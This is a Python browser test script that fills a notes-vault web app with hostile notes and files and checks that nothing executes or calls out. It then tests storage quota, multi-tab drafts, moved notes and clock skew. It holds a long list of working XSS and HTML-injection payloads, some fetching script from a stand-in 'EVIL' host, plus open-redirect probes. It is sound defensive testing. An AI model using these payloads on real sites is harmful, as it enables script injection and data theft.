"""hostile.py VAULT [--long]: a vault that is meant to do harm is looked at by a real browser: nothing of it runs, nothing is
loaded from elsewhere, and the page's policy has nothing to report. Then the browser itself is what is not as it should be: it is
full, has two tabs on one note, a draft of a note that has moved, a clock that is a year off. Ends with 1 and a sentence for each
thing that is not right."""

import itertools
import os
import re
import socket
import sys
import threading
import time
import urllib.parse

from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from served import Served, browser

problems = []


def expect(condition, words):
    if not condition:
        problems.append(words)


def until(condition, words, seconds=60):
    """Waits for something that scripts or the server bring about. What is said of it may be asked for in the end."""
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            if condition():
                return True
        except Exception:  # What is asked about may not be there yet.
            pass
        time.sleep(0.05)
    problems.append(words() if callable(words) else words)
    return False


# MARK: What is meant to run

# `alert(1)` gets the number of its vector; EVIL is a server that must hear of nothing.
VECTORS = r'''
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</pre></code><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<script src=http://EVIL/1.js></script>
<script src=//EVIL/1.js></script>
<script type=module src=//EVIL/1.mjs></script>
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script
>alert(1)</script
>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src="x`" `<script>alert(1)</script>"` `>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
"><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus x="
' onfocus=alert(1) autofocus x='
" onmouseover="alert(1)
x" onerror="alert(1)" y="
` onmouseover=alert(1) x=`
<img src=http://EVIL/1.png>
<img srcset="http://EVIL/1.png 1x">
<picture><source srcset=http://EVIL/1.png><img></picture>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" />
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=http://EVIL/1.png></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<iframe src=javascript:alert(1)></iframe>
<iframe src=http://EVIL/1></iframe>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src=//EVIL/1.swf>
<applet code=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript&colon;alert&lpar;1&rpar;">x</a>
<form action=javascript:alert(1)><button>x</button></form>
<button form=toggle formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=submit>
<base href=http://EVIL/1/>
<link rel=stylesheet href=http://EVIL/1.css>
<link rel=prefetch href=http://EVIL/1>
<meta http-equiv=refresh content="0;url=http://EVIL/1">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import 'http://EVIL/1.css';</style>
<style>*{background:url(http://EVIL/1.png)}</style>
<div style="background:url(http://EVIL/1.png)">x</div>
<div style="animation-name:x" onanimationstart=alert(1)>x</div>
<x onclick=alert(1) tabindex=1>x</x>
<x contenteditable onblur=alert(1)>x</x>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<frameset onload=alert(1)>
<table background=http://EVIL/1.png><tr><td>x</table>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<form id=toggle><input name=action></form>
<img name=policy id=main><a id=drafts href=x>x</a>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml-stylesheet href="javascript:alert(1)"?>
<![CDATA[<script>alert(1)</script>]]>
<% alert(1) %>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
javascript&colon;alert(1)
javascript://x%0Aalert(1)
vbscript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>
blob:http://127.0.0.1/1
//EVIL/1
http://EVIL/1
[x](javascript:alert(1))
[x](&#106;avascript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html,<script>alert(1)</script>)
[x](x "" onmouseover=alert(1) ")
![x](javascript:alert(1))
![x](http://EVIL/1.png)
![x](x"onerror="alert(1))
![x](//EVIL/1.png)
<javascript:alert(1)>
<http://x"onmouseover=alert(1)>
[[x|<img src=x onerror=alert(1)>]]
![["onerror=alert(1) x="]]
[[javascript:alert(1)]]
[x]: javascript:alert(1) "onmouseover=alert(1)"
`<img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
"'`--!></title></style></textarea></script><svg/onload=alert(1)>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
'''


def vectors(evil):
    lines = VECTORS.strip("\n").replace("<script\n>alert(1)</script\n>", "<script >alert(1)</script >").split("\n")
    lines += ["<scr\x00ipt>alert(1)</script>", "\u202e<script>alert(1)</script>", "<img\x0csrc=x\x0conerror=alert(1)>", "<x\u2028onclick=alert(1)>"]
    return [line.replace("alert(1)", f"alert({n})").replace("alert`1`", f"alert`{n}`").replace("EVIL/1", f"{evil}/{n}") for n, line in enumerate(lines)]


class Evil:
    """A server elsewhere that notes down who comes."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.name = "127.0.0.1:%d" % self.socket.getsockname()[1]
        self.heard = []
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        while True:
            connection, _ = self.socket.accept()
            connection.settimeout(2)
            try:
                self.heard.append(connection.recv(200))
            except OSError:
                pass
            connection.close()


# Tells by the console, which outlives the page, of all that runs and of all that the policy keeps from it.
WATCH = """(() => {
  const tell = (words) => console.error("HOSTILE " + words + " at " + location);
  for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = (...words) => tell(`${name}(${words}) ran`);
  document.addEventListener("securitypolicyviolation", (event) => tell(`report: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
})()"""

# What a page has that none of ours has.
FOREIGN = """
const found = [];
// What a browser itself makes of a text, or of an empty answer.
if (document.contentType !== "text/html" || !location.protocol.startsWith("http")) return found;
const own = ["http:", "https:", "mailto:"];
for (const each of document.querySelectorAll("*")) {
  const name = each.localName;
  const words = each.outerHTML.slice(0, 160);
  for (const { name: attribute } of each.attributes) {
    if (/^on|^style$|^srcdoc$|^formaction$|^srcset$|^background$/.test(attribute)) found.push(`${attribute} in ${words}`);
  }
  if (/^(iframe|frame|frameset|object|embed|applet|base|style|template|math|foreignobject|animate|set|use|video|audio|marquee|isindex|noscript)$/.test(name)) found.push(words);
  if (name === "script" && !each.src.startsWith(location.origin + "/assets/")) found.push(words);
  if (name === "link" && !each.href.startsWith(location.origin + "/assets/")) found.push(words);
  if (name === "meta" && each.httpEquiv) found.push(words);
  if (name === "img" && !each.src.startsWith(location.origin + "/")) found.push(words);
  if (name === "a" && each.hasAttribute("href") && !own.includes(new URL(each.href.baseVal ?? each.href, location).protocol)) found.push(words);
  if (name === "form" && new URL(each.getAttribute("action") ?? "", location).origin !== location.origin) found.push(words);
}
return found;
"""


def watched(driver):
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
    return driver


def complaints(driver):
    """What ran, what was reported, and what scripts of the page failed at. That something is missing or refused is none."""
    return [
        entry["message"][:300] for entry in driver.get_log("browser")
        if "HOSTILE" in entry["message"] or "Content Security Policy" in entry["message"]
        or entry["level"] == "SEVERE" and "the server responded with a status of" not in entry["message"]
    ]


class Look:
    """Goes to pages, and tells what is not right there."""

    def __init__(self, driver, served):
        self.driver, self.served, self.count = driver, served, 0

    def at(self, target):
        try:
            self.driver.get(self.served.address + target)
        except WebDriverException as error:
            # A file that is kept and not shown.
            expect("ERR_ABORTED" in str(error), f"{target}: {str(error)[:200]}")
        self.now(target)

    def now(self, words):
        self.count += 1
        found = self.driver.execute_script(FOREIGN)
        expect(not found, f"{words}: {found[:3]}")
        told = complaints(self.driver)
        expect(not told, f"{words}: {told[:3]}")


def name_of(number, vector):
    """A name that a file can have."""
    return f"{number} " + vector.replace("/", "_").replace("\x00", "_").encode()[:90].decode(errors="ignore")


def yaml(text):
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + "".join(f"\\x{ord(sign):02x}" if ord(sign) < 32 else sign for sign in escaped) + '"'


def note(number, vector):
    """Every place of a note that a text can stand in."""
    value = yaml(vector)
    return f"""---
title: {value}
tags: [{value}, plain]
aliases: [{value}]
category: {value}
source: {value}
summary: {value}
{value}: {value}
list: [{value}]
---
word {vector} word

# {vector}

- [ ] task {vector} 📅 2026-03-13
- [ ] {vector} #tag{vector} 🔁 {vector}

> [!{vector}] {vector}
> {vector}

| {vector} | b |
|---|---|
| {vector} | x |

[x]({vector}) [x](<{vector}>) [x](x "{vector}") ![x]({vector}) [{vector}](x) ![{vector}](x.png) [[{vector}]] [[x|{vector}]] ![[{vector}]]
<{vector}> [x][{number}] [^{vector}] #{vector} `{vector}` **{vector}** =={vector}== ~~{vector}~~ $${vector}$$ %%{vector}%%

[{number}]: {vector}
[^{vector}]: {vector}

{vector}

```{vector}
{vector}
```

    {vector}

<div>
{vector}
</div>
""".encode()


PLACES_IN_NOTE = 45

SCRIPT = "<script>alert(1)</script>"
SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="http://EVIL/1.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>"""
FILES = {
    "x": SCRIPT,
    "x.css": "*{background:url(http://EVIL/1.png)}",
    "x.csv": SCRIPT + ",x",
    "x.gif": f"GIF89a/*{SCRIPT}*/=1;alert(1)",
    "x.hta": SCRIPT,
    "x.htm": SCRIPT,
    "x.html": SCRIPT + "<img src=http://EVIL/1.png>",
    "x.js": "alert(1)",
    "x.json": f'"{SCRIPT}"',
    "x.md.html": SCRIPT,
    "x.mht": "Content-Type: text/html\n\n" + SCRIPT,
    "x.mjs": "alert(1)",
    "x.mp4": SCRIPT,
    "x.pdf": "%PDF-1.4 " + SCRIPT,
    "x.png": f"<html>{SCRIPT}</html>",
    "x.shtml": SCRIPT,
    "x.svg": SVG,
    "x.svg.png": SVG,
    "x.svgz": SVG,
    "x.txt": "<html>" + SCRIPT,
    "x.webmanifest": '{"start_url": "javascript:alert(1)"}',
    "x.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>',
    "x.xml": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
}


def fill(served, evil, all_vectors):
    for number, vector in enumerate(all_vectors):
        served.write(f"H/{name_of(number, vector)}.md", note(number, vector))
    embeds = []
    for name, content in FILES.items():
        served.write("Files/" + name, content.replace("EVIL", evil.name).encode())
        for way in ["![[%s]]", "[[%s]]", "![x](%s)"]:
            embeds.append(way % ("Files/" + name))
    served.write("Embeds.md", "\n\n".join(embeds).encode())
    for number, vector in enumerate(all_vectors[:40]):
        served.write(f"Files/{name_of(number, vector)}.svg", SVG.replace("EVIL", evil.name).encode())
    served.write(".vault/templates/<img src=x onerror=alert(1)>.md", b"# <script>alert(1)</script>\n")


def lists(look, served, all_vectors, is_long):
    """The pages that show many notes at once, page by page, and what changes leave behind."""
    chosen = [f"H/{name_of(number, vector)}.md" for number, vector in enumerate(all_vectors)]
    for path in chosen[:6]:
        served.request("/api/v1/notes/" + urllib.parse.quote(path), "DELETE").close()
    for number in (7, 8):
        body = ('{"addTags": ["x%d"]}' % number).encode()
        served.request("/api/v1/notes/" + urllib.parse.quote(chosen[number]), "PATCH", body, content_type="application/json").close()
    for target in [
        "/", "/tasks?tab=all", "/tasks?q=task", "/agenda?days=30", "/tags", "/folder/H", "/folder/Files", "/search?q=word", "/search?q=script",
        "/history", "/history?change=1", "/history?change=7", "/trash", "/stats", "/doctor", "/graph", "/select?folder=H", "/settings", "/new",
        "/note/Embeds.md", "/note/Nothing.md", "/?sort=title",
    ]:
        look.at(target)
        for _ in range(8 if is_long else 1):
            more = look.driver.find_elements(By.CSS_SELECTOR, "a[rel=next]")
            if not more:
                break
            look.at(more[0].get_attribute("href").removeprefix(served.address))


def notes(look, all_vectors, step):
    for number, vector in list(enumerate(all_vectors))[9::step]:
        where = urllib.parse.quote(f"H/{name_of(number, vector)}.md")
        look.at("/note/" + where)
        views = [
            f"/note/{where}?view=split", f"/note/{where}?view=raw", f"/api/v1/notes/{where}", f"/backlinks/{where}",
            f"/graph?note={where}", f"/note/{where}?view=edit",
        ]
        for view in views if step == 1 and number % 4 == 0 else [views[number // step % len(views)]]:
            look.at(view)
            # No page can hold a NUL, so there is nothing to edit.
            if "split" in view and "\x00" not in vector:
                until(lambda: look.driver.execute_script("return document.querySelector('[data-preview]').childElementCount > 0"), f"{view}: no preview")
                look.now("the preview of " + view)


TARGETS = [
    "/search?q=%s", "/?q=%s", "/tasks?q=%s", "/tasks?tab=%s", "/new?title=%s&folder=%s&template=%s", "/note/%s", "/folder/%s", "/tag/%s", "/file/%s",
    "/select?folder=%s", "/graph?note=%s", "/history?change=%s", "/note/Home.md?view=%s", "/note/Home.md?line=%s", "/note/Home.md#%s", "/?cursor=%s",
    "/%s", "/task/%s", "/agenda?days=%s", "/backlinks/%s.md", "/api/v1/%s", "/api/v1/notes/%s", "/api/v1/search?q=%s", "/todoapp/v1/%s", "/assets/%s", "/?sort=%s",
]


def queries(look, all_vectors, is_long):
    # Each so-and-so-many-th of all pairs, by a step that comes by all addresses.
    for vector, target in list(itertools.product(all_vectors, TARGETS))[:: 5 if is_long else 107]:
        look.at(target.replace("%s", urllib.parse.quote(vector.replace("\x00", ""), safe="")))
    # As it is typed: the list is swapped by a script.
    look.at("/")
    for vector in all_vectors[:: 4 if is_long else 16]:
        look.driver.execute_script(
            "const field = document.getElementById('Find'); field.value = arguments[0]; field.dispatchEvent(new Event('input', {bubbles: true}))", vector)
        time.sleep(0.4)
        look.now(f"typing {vector!r} into the search")


def files(look, served, evil):
    """Whatever is put into the vault is looked at as a page of its own. There the policy keeps it from running, and may say so."""
    for number, name in enumerate(FILES):
        body = FILES[name].replace("EVIL", evil.name).encode()
        served.request(f"/api/v1/files/Put/{name}", "PUT", body, content_type="text/html").close()
        for where in ["/file/Files/", "/api/v1/files/Put/"]:
            try:
                look.driver.get(served.address + where + name)
            except WebDriverException as error:
                expect("ERR_ABORTED" in str(error), f"{where}{name}: {str(error)[:200]}")
            ran = [words for words in complaints(look.driver) if " ran " in words]
            expect(not ran, f"{where}{name}: {ran}")
    look.at("/")


def conflict_screen(look, served, all_vectors):
    """All that a conflict shows of both sides, in as many places as there are vectors."""
    text = lambda side: "".join(f"common {n}\n\n{side} {v}\n\n" for n, v in enumerate(all_vectors) if "\x00" not in v)
    path = 'Conflict "><script>alert(1)<_script>'
    served.write(path + ".md", text("base").encode())
    look.at("/note/" + urllib.parse.quote(path) + ".md?view=edit")
    area = look.driver.find_element(By.CSS_SELECTOR, ".editor textarea")
    look.driver.execute_script("arguments[0].value = arguments[1]; arguments[0].dispatchEvent(new Event('input', {bubbles: true}))", area, text("mine"))
    served.write(path + ".md", text("theirs").encode())
    area.send_keys(Keys.CONTROL, "s")
    if until(lambda: look.driver.find_elements(By.CSS_SELECTOR, "form.conflict"), "no screen of both versions comes"):
        count = len(look.driver.find_elements(By.CSS_SELECTOR, "form.conflict fieldset"))
        expect(count > len(all_vectors) // 2, f"a conflict of {len(all_vectors)} places shows {count}")
        look.now("the screen of a conflict")
        look.driver.find_element(By.CSS_SELECTOR, "form.conflict button.strong").click()
        until(lambda: "/note/" in look.driver.current_url and not look.driver.find_elements(By.CSS_SELECTOR, "form.conflict"), "a conflict is not settled")
        look.now("a note whose conflict is settled")


def forms(look, served):
    """What is shown before it is done, offers of names, and what is told of drafts and attached files."""
    look.at("/select?folder=H")
    look.driver.execute_script(
        """for (const box of document.querySelectorAll("[name=note]")) box.checked = true;
        const form = document.querySelector("form.select");
        form.elements.action.value = "add-tag"; form.elements.tag.value = "x\\"><script>alert(1)</script>";
        HTMLFormElement.prototype.submit.call(form)""")
    time.sleep(1)
    look.now("a tag that is to be added")
    look.at("/select?folder=H")
    look.driver.execute_script(
        """for (const box of document.querySelectorAll("[name=note]")) box.checked = true;
        const form = document.querySelector("form.select");
        form.elements.action.value = "move"; form.elements.folder.value = "<img src=x onerror=alert(1)>";
        HTMLFormElement.prototype.submit.call(form)""")
    time.sleep(1)
    look.now("notes that are to be moved")
    served.write("Plain.md", b"# Plain\n\n")
    look.at("/note/Plain.md?view=edit")
    area = look.driver.find_element(By.CSS_SELECTOR, ".editor textarea")
    for typed in ["[[script", "]] [[img", "]] #x", " #tag"]:
        area.send_keys(typed)
        time.sleep(0.7)
        look.now(f"the names that are offered for {typed!r}")
    look.driver.execute_script(
        """for (const name of ["<img src=x onerror=alert(1)>.png", "x\\"><script>alert(1)</script>.svg"]) {
          const data = new DataTransfer();
          data.items.add(new File(["<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"], name, { type: "image/svg+xml" }));
          arguments[0].dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
        }""", area)
    until(lambda: area.get_property("value").count("![[") == 2, "files with odd names are not attached")
    look.now("files with odd names that are attached")
    look.driver.execute_script(
        """return drafts.put({ place: "x", title: "<img src=x onerror=alert(1)>", address: "/note/x", base: null, fields: {}, text: "x", at: 1 })""")
    look.at("/")
    expect("onerror" in look.driver.find_element(By.ID, "Unsaved").text, "a draft with an odd name is not told of")
    look.driver.execute_script("return drafts.remove('x')")


def headings(look, served):
    """Headings give their places names, which are not those of the page's own parts."""
    own = ["Main", "Told", "Keys", "Keys on", "Keys title", "Toggle", "Find", "Away", "Unsaved", "Offers"]
    served.write("Headings.md", ("".join(f"# {name}\n\n" for name in own) + "- [ ] tick\n").encode())
    look.at("/note/Headings.md")
    double = """const all = [...document.querySelectorAll("[id]")].map((each) => each.id);
        return all.filter((id, place) => all.indexOf(id) !== place)"""
    found = look.driver.execute_script(double)
    expect(not found, f"a heading is called as a part of the page: {found}")
    look.driver.find_element(By.CSS_SELECTOR, ".prose .box").click()
    until(lambda: b"- [x] tick" in served.read("Headings.md"), "below such headings a box does not tick", 10)
    look.now("headings with names of the page's parts")


def without_server(look, served):
    """The list of notes that a browser keeps for when the server is away."""
    port = int(served.address.rsplit(":", 1)[1])
    if not until(lambda: look.driver.execute_script("return navigator.serviceWorker.controller !== null"), "no worker keeps notes"):
        return
    served.stop()
    try:
        look.at("/tasks")
        expect("read here last" in look.driver.page_source, "the kept notes are not listed")
    finally:
        served.start(port)


def hostile_folder(served):
    """The folder of the vault has a name, too."""
    port = int(served.address.rsplit(":", 1)[1])
    served.stop()
    folder = os.path.join(served.folder, "\"'><img src=x onerror=alert(1)>")
    os.rename(served.vault, folder)
    served.arguments[served.arguments.index(served.vault)] = folder
    served.vault = folder
    served.start(port)


def signed_out(served):
    """Whoever is not let in is led nowhere else. A link of another page brings a browser here without its cookie."""
    for target in ["//example.org/1", "/\\example.org/1", "/%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "/login?key=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"]:
        host, port = served.address.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=20) as connection:
            head = f"GET {target} HTTP/1.1\r\nHost: {host}:{port}\r\nAccept: text/html\r\nSec-Fetch-Site: cross-site\r\nConnection: close\r\n\r\n"
            connection.sendall(head.encode())
            page = b"".join(iter(lambda: connection.recv(65536), b"")).decode()
        expect(" 401 " in page[:20] or " 400 " in page[:20] or " 404 " in page[:20], f"{target}: {page[:60]!r}")
        for address in re.findall(r'(?:href|action)="([^"]*)"', page):
            expect(re.match(r"/(?![/\\])", address), f"{target}: whoever is not signed in is offered {address}")
        expect("<script>alert" not in page, f"{target}: {page[-300:]!r}")


def vault_that_does_harm(program, is_long):
    evil = Evil()
    all_vectors = vectors(evil.name)
    with Served(program) as served:
        fill(served, evil, all_vectors)
        hostile_folder(served)
        driver = watched(browser())
        try:
            driver.get(f"{served.address}/login?key={served.key}")
            look = Look(driver, served)
            for name, step in {
                "lists": lambda: lists(look, served, all_vectors, is_long), "notes": lambda: notes(look, all_vectors, 1 if is_long else 9),
                "queries": lambda: queries(look, all_vectors, is_long), "files": lambda: files(look, served, evil),
                "conflict": lambda: conflict_screen(look, served, all_vectors), "forms": lambda: forms(look, served),
                "headings": lambda: headings(look, served), "without server": lambda: without_server(look, served), "signed out": lambda: signed_out(served),
            }.items():
                steps(name, step)
        finally:
            driver.quit()
    expect(not evil.heard, f"another server heard {evil.heard[:3]}")
    return len(all_vectors), look.count


# MARK: A browser that is not as it should be

def area(driver):
    return driver.find_element(By.CSS_SELECTOR, ".editor textarea")


def state(driver):
    return driver.execute_script("return document.querySelector('[data-state]')?.textContent ?? ''")


def edit(driver, served, note):
    driver.get(f"{served.address}/note/{note}?view=edit")
    until(lambda: driver.switch_to.active_element == area(driver), f"{note}: the text has no focus")
    area(driver).send_keys(Keys.CONTROL, Keys.END)


def end_tab(driver):
    """The tab ends as when a browser is killed; another is there."""
    old = driver.current_window_handle
    driver.switch_to.new_window("tab")
    new = driver.current_window_handle
    driver.switch_to.window(old)
    driver.execute_cdp_cmd("Page.close", {})
    driver.switch_to.window(new)


def kept_texts(driver):
    """All texts that the browser keeps of what is not saved."""
    return driver.execute_script("return drafts.all().then((all) => all.map((draft) => draft.text))")


def full_browser(driver, served):
    """The browser keeps nothing any more: that is said, and saving goes on."""
    refusals = {
        "put": "IDBObjectStore.prototype.put = () => { throw new DOMException('full', 'QuotaExceededError'); }",
        "open": "IDBFactory.prototype.open = () => { throw new DOMException('denied', 'SecurityError'); }",
        "quota": None,
    }
    for name, source in refusals.items():
        note = f"Full/{name}.md"
        served.write(note, b"# Full\n\nfirst\n")
        if source:
            script = driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": source})["identifier"]
        edit(driver, served, note)
        if not source:
            driver.execute_cdp_cmd("Storage.overrideQuotaForOrigin", {"origin": served.address, "quotaSize": 1})
        area(driver).send_keys("second")
        until(lambda: "keeps nothing" in state(driver), lambda: f"{name}: a full browser says {state(driver)!r}", 10)
        area(driver).send_keys(" and third", Keys.CONTROL, "s")
        until(lambda: served.read(note).endswith(b"second and third"), f"{name}: a full browser does not save")
        until(lambda: "Saved" in state(driver), lambda: f"{name}: after saving, a full browser says {state(driver)!r}", 10)
        driver.execute_script("arguments[0].value = '# Full\\n\\nmine\\n'; arguments[0].dispatchEvent(new Event('input', {bubbles: true}))", area(driver))
        served.write(note, b"# Full\n\ntheirs\n")
        area(driver).send_keys(Keys.CONTROL, "s")
        until(lambda: driver.find_elements(By.CSS_SELECTOR, "form.conflict"), f"{name}: a full browser shows no conflict")
        driver.find_element(By.CSS_SELECTOR, "form.conflict button.strong").click()
        until(lambda: b"mine" in served.read(note) and b"theirs" in served.read(note), f"{name}: both are not kept")
        driver.get(served.address + "/new")
        area(driver).send_keys(f"New of a full browser, {name}")
        time.sleep(0.5)
        area(driver).send_keys(Keys.CONTROL, Keys.ENTER)
        until(lambda: "/note/" in driver.current_url, f"{name}: a full browser makes no note")
        if source:
            driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": script})
        else:
            driver.execute_cdp_cmd("Storage.overrideQuotaForOrigin", {"origin": served.address})


def two_tabs(driver, served):
    """What is typed in two tabs on one note is kept of both, and saved by both."""
    served.write("Tabs/Both.md", b"# Both\n\nupper\n\nmiddle\n\nlower\n")
    first = driver.current_window_handle
    edit(driver, served, "Tabs/Both.md")
    area(driver).send_keys("by the first")
    time.sleep(0.6)
    driver.switch_to.new_window("tab")
    second = driver.current_window_handle
    driver.get(f"{served.address}/note/Tabs/Both.md?view=edit")
    until(lambda: area(driver), "the second tab has no text")
    time.sleep(0.5)
    script = """arguments[0].value = arguments[0].value.replace("upper", "upper by the second").replace("by the first", "");
        arguments[0].dispatchEvent(new Event("input", { bubbles: true }))"""
    driver.execute_script(script, area(driver))
    time.sleep(0.6)
    both = " ".join(kept_texts(driver))
    expect("by the first" in both, "the draft of one tab is lost by what is typed in another")
    expect("by the second" in both, "what is typed in a second tab is not kept")
    driver.switch_to.window(first)
    area(driver).send_keys(Keys.CONTROL, "s")
    until(lambda: "Saved" in state(driver), lambda: f"the first tab says {state(driver)!r}")
    driver.switch_to.window(second)
    kept = " ".join(kept_texts(driver))
    expect("by the second" in kept, "saving in one tab takes away the draft of another")
    until(lambda: "Changed elsewhere" in state(driver), lambda: f"the second tab is not told, but says {state(driver)!r}", 10)
    area(driver).send_keys(Keys.CONTROL, "s")
    until(lambda: b"by the second" in served.read("Tabs/Both.md"), "the second tab does not save")
    text = served.read("Tabs/Both.md")
    expect(b"by the first" in text, f"the second tab takes away what the first has saved: {text!r}")
    driver.close()
    driver.switch_to.window(first)


def draft_of_a_moved_note(driver, served):
    """A draft is still found once its note is called something else, is gone, or is somewhere else."""
    for name, move in {
        "by us": lambda: served.request(
            "/api/v1/notes/Drafts/by%20us.md", "PATCH", b'{"path": "Drafts/renamed by us.md"}', content_type="application/json"),
        "by another": lambda: os.rename(served.path("Drafts/by another.md"), served.path("Drafts/renamed by another.md")),
        "away": lambda: os.unlink(served.path("Drafts/away.md")),
    }.items():
        served.write(f"Drafts/{name}.md", f"# Drafts {name}\n\nfirst\n".encode())
        where = urllib.parse.quote(f"Drafts/{name}.md")
        edit(driver, served, where)
        area(driver).send_keys(f"typed before it went {name}")
        time.sleep(0.6)
        move()
        # The page is still open: saving says what is wrong, and takes nothing away.
        area(driver).send_keys(Keys.CONTROL, "s")
        time.sleep(2)
        expect("Not saved" in state(driver), f"saving a note that moved {name} says {state(driver)!r}")
        expect("typed before" in area(driver).get_property("value"), f"the text of a note that moved {name} is gone from its page")
        end_tab(driver)
        driver.get(served.address + "/")
        until(lambda: f"{name}.md" in driver.find_element(By.ID, "Unsaved").text, f"the draft of a note that moved {name} is not told of", 10)
        link = [each for each in driver.find_elements(By.CSS_SELECTOR, "#Unsaved a") if f"{name}.md" in each.text]
        if not link:
            continue
        link[0].click()
        shows = """return document.body.innerText.includes(arguments[0]) || [...document.querySelectorAll("textarea")].some((each) => each.value.includes(arguments[0]))"""
        until(lambda: driver.execute_script(shows, f"typed before it went {name}"), f"the draft of a note that moved {name} cannot be reached", 10)
        driver.get(served.address + "/")
        expect(any(name in text for text in kept_texts(driver)), f"the draft of a note that moved {name} is lost")
        driver.execute_script("return drafts.all().then((all) => Promise.all(all.map((each) => drafts.remove(each.place, each.tab))))")


def clock_off(driver, served):
    """A browser whose clock is a year off keeps, shows and saves as any other."""
    for name, days in {"behind": -366, "ahead": 366}.items():
        source = """{ const offset = %d * 86400000, Real = Date;
            window.Date = class extends Real { constructor(...all) { all.length ? super(...all) : super(Real.now() + offset); } static now() { return Real.now() + offset; } } }""" % days
        script = driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": source})["identifier"]
        served.write(f"Clock/{name}.md", b"# Clock\n\nfirst\n")
        edit(driver, served, f"Clock/{name}.md")
        year = driver.execute_script("return new Date().getFullYear()")
        expect(abs(year - time.gmtime().tm_year) == 1, f"the clock is not off, but in {year}")
        area(driver).send_keys("second")
        time.sleep(0.6)
        end_tab(driver)
        script = driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": source})["identifier"]
        edit(driver, served, f"Clock/{name}.md")
        until(lambda: "second" in area(driver).get_property("value"), f"{name}: the draft is lost")
        area(driver).send_keys(Keys.CONTROL, "s")
        until(lambda: served.read(f"Clock/{name}.md").endswith(b"second"), f"{name}: nothing is saved")
        driver.get(served.address + "/tasks")
